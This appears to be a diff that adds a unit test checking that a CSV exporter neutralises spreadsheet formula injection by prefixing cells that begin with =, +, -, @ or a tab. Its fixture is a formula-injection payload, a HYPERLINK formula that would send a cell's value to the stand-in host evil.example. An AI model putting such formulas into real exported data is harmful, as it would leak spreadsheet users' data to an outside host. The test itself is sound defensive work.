@@ -22,6 +22,21 @@ test('CSV quotes what needs it and keeps every digit', () => {
   );
 });
 
+test('a spreadsheet that opens CSV runs no formula', () => {
+  const token = '=HYPERLINK("http://evil.example/?"&A1)';
+  const records = [{ token }, { token: '+cmd' }, { token: '-x' }, { token: '@SUM(A1)' }, { token: '\t=1' }];
+  const lines = csvOf({ ...table, records })
+    .split('\n')
+    .slice(2, -1);
+  expect(lines[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
+  for (const line of lines) expect(line).toMatch(/^"?'/);
+  // Numbers are numbers, and other formats have the text itself.
+  expect(csvOf({ ...table, records: [{ a: -1e-3, b: '-0.5', c: '+1e3' }] })).toContain(
+    '\n-0.001,-0.5,+1e3\n',
+  );
+  expect(jsonOf({ ...table, records })).toContain('"+cmd"');
+});
+
 test('JSON has the caption and the records', () => {
   expect(JSON.parse(jsonOf(table))).toEqual({ caption: table.caption, rows: table.records });
 });
